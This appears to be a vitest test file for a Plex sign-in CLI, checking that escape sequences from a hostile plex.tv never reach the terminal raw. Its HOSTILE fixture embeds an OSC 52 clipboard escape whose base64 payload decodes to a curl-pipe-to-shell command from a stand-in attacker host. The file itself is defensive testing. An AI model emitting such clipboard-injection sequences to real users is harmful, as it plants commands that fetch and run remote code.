// What the BUILT command writes for a person, with a hostile plex.tv and in terminals of every
// kind: no escape sequence of plex.tv's ever reaches it, and none of ours when told not to.
import { spawn } from 'node:child_process'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { FakePlex } from '../fake-plex/fake-plex-server'
import {
  approveShownCode,
  CLI_PATH,
  jsonOut,
  runPlexLogin,
  setup,
  SHORT_CODE_LINE,
  startPlexLogin,
  tempDir,
  waitUntil
} from '../integration/run-plex-login'

// OSC 52 (sets the clipboard), CSI (clears the screen, colours), an 8-bit CSI and a bidi override.
const HOSTILE =
  'ev\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g=\x07il\x1b[2J\x1b[31m\x9b1m\u202eman'
const SHOWN = 'evil man' // what is left of it
const RAW = ['\x1b', '\x9b', '\u202e', '\x07']

function expectNoRawControl(text: string): void {
  for (const raw of RAW) expect(text).not.toContain(raw)
}

describe.concurrent('a hostile plex.tv never writes to the terminal', () => {
  it('a username with escapes and a bidi override is shown clean after sign-in and by status', async (context) => {
    const { fake, base } = await setup(context, { user: { username: HOSTILE, title: HOSTILE } })
    const run = startPlexLogin(['--json', ...base])
    await approveShownCode(run, fake)
    const login = await run.done
    expect(login.code).toBe(0)
    expectNoRawControl(login.stderr)
    expect(login.stderr).toContain(`Signed in as ${SHOWN}\n`)

    const status = await runPlexLogin(['status', ...base])
    expect(status.code).toBe(0)
    expectNoRawControl(status.stderr)
    expect(status.stderr).toContain(`Signed in as ${SHOWN}\n`)
  })

  it("plex.tv's words in a failure reach neither stderr nor the JSON message raw", async (context) => {
    const { fake, base } = await setup(context)
    const body = JSON.stringify({ errors: [{ code: 1001, message: HOSTILE, status: 401 }] })
    fake.fault('create', { status: 401, body })
    const result = await runPlexLogin(['--json', ...base])
    expect(result.code).not.toBe(0)
    expectNoRawControl(result.stderr)
    expect(result.stderr).toContain(SHOWN)
    const error = jsonOut(result).error as { message: string }
    expectNoRawControl(error.message)
    expect(error.message).toContain(SHOWN)
  })
})

// A real terminal for the command: util-linux `script` runs it on a pseudo-terminal, whose
// width `stty` sets. stdout goes to a file so what the terminal shows is stderr alone.
const canUsePty = process.platform === 'linux' && existsSync('/usr/bin/script')
const quote = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`

interface TerminalRun {
  screen: () => string
  done: Promise<{ code: number | null; screen: string; stdout: string }>
}

function runInTerminal(
  args: string[],
  options: { columns: number; env: Record<string, string | undefined>; dir: string }
): TerminalRun {
  const stdoutFile = join(options.dir, 'stdout.json')
  const command =
    `stty cols ${options.columns} rows 50 && exec ${quote(process.execPath)} ` +
    `${[CLI_PATH, ...args].map(quote).join(' ')} > ${quote(stdoutFile)}`
  const env: NodeJS.ProcessEnv = { ...process.env, PLEX_LOGIN_PLEX_URL: undefined, ...options.env }
  for (const [name, value] of Object.entries(env)) if (value === undefined) delete env[name]
  const child = spawn('/usr/bin/script', ['-qec', command, '/dev/null'], {
    env,
    stdio: ['ignore', 'pipe', 'pipe']
  })
  let screen = ''
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => (screen += chunk))
  const watchdog = setTimeout(() => child.kill('SIGKILL'), 30_000)
  const done = new Promise<{ code: number | null; screen: string; stdout: string }>(
    (resolve, reject) => {
      child.once('error', reject)
      child.once('close', (code) => {
        clearTimeout(watchdog)
        const stdout = existsSync(stdoutFile) ? readFileSync(stdoutFile, 'utf8') : ''
        resolve({ code, screen, stdout })
      })
    }
  )
  return { screen: () => screen, done }
}

async function approveOnScreen(run: TerminalRun, fake: FakePlex): Promise<void> {
  await waitUntil(() => SHORT_CODE_LINE.test(run.screen()), 'the code on the terminal')
  // The live countdown may follow the code on the same row: it starts with \r.
  fake.approve(SHORT_CODE_LINE.exec(run.screen())![1]!.split('\r')[0])
}

describe.skipIf(!canUsePty).concurrent('plex-login on a terminal', () => {
  it('draws a coloured QR and a live countdown by default (what the next tests turn off)', async (context) => {
    const { fake, base } = await setup(context)
    const run = runInTerminal(['--json', ...base], {
      columns: 100,
      env: { TERM: 'xterm-256color', NO_COLOR: undefined },
      dir: tempDir(context)
    })
    await approveOnScreen(run, fake)
    const { code, screen } = await run.done
    expect(code).toBe(0)
    expect(screen).toContain('\x1b[30;47m') // the QR, black on white
    expect(screen).toContain('\r\x1b[2K  Waiting for approval') // the live line
  })

  it.for([
    ['NO_COLOR=1', { NO_COLOR: '1', TERM: 'xterm-256color' }],
    ['NO_COLOR empty', { NO_COLOR: '', TERM: 'xterm-256color' }],
    ['TERM=dumb', { TERM: 'dumb', NO_COLOR: undefined }]
  ] as const)(
    'with %s: not one ESC byte, QR included, hostile username too',
    async ([, env], context) => {
      const { fake, base } = await setup(context, { user: { username: HOSTILE } })
      const run = runInTerminal(['--json', ...base], { columns: 100, env, dir: tempDir(context) })
      await approveOnScreen(run, fake)
      const { code, screen, stdout } = await run.done
      expect(code).toBe(0)
      expect(JSON.parse(stdout)).toMatchObject({ ok: true })
      expect(screen).toMatch(/[█▀▄]{7}/)
      expect(screen).toContain(`Signed in as ${SHOWN}`)
      expectNoRawControl(screen)
    }
  )

  it('narrower than the QR: the link and code without the QR, the countdown on one row', async (context) => {
    const { fake, base } = await setup(context)
    const run = runInTerminal(['--json', ...base], {
      columns: 30,
      env: { TERM: 'xterm-256color', NO_COLOR: undefined },
      dir: tempDir(context)
    })
    await approveOnScreen(run, fake)
    const { code, screen } = await run.done
    expect(code).toBe(0)
    expect(screen).toMatch(/enter the code:\s+\w{4}/)
    expect(screen).toMatch(/or open https:\/\/plex\.tv\/link\/\?pin=\w{4}/)
    expect(screen).not.toMatch(/[█▀▄]/)
    expect(screen).not.toContain('scan the QR')
    // Live lines are the ones redrawn over (the next \r\x1b[2K follows), not ended by a newline.
    // eslint-disable-next-line no-control-regex
    const live = [...screen.matchAll(/\r\x1b\[2K([^\r\n]+)(?=\r\x1b)/g)].map((m) => m[1]!)
    expect(live).toContain('  Expires in 15:00')
    for (const text of live) expect(text.length).toBeLessThan(30)
  })

  it('with a --timeout before the code expires, the countdown is to giving up', async (context) => {
    const { base } = await setup(context)
    const run = runInTerminal(['--json', '--timeout', '5', ...base], {
      columns: 100,
      env: { TERM: 'xterm-256color', NO_COLOR: undefined },
      dir: tempDir(context)
    })
    const { code, screen } = await run.done
    expect(code).toBe(3)
    expect(screen).toMatch(
      // eslint-disable-next-line no-control-regex
      /\r\x1b\[2K {2}Waiting for approval; giving up in 0:0[0-5] \(--timeout\)/
    )
    expect(screen).not.toContain('Waiting for approval; the code expires')
  })
})
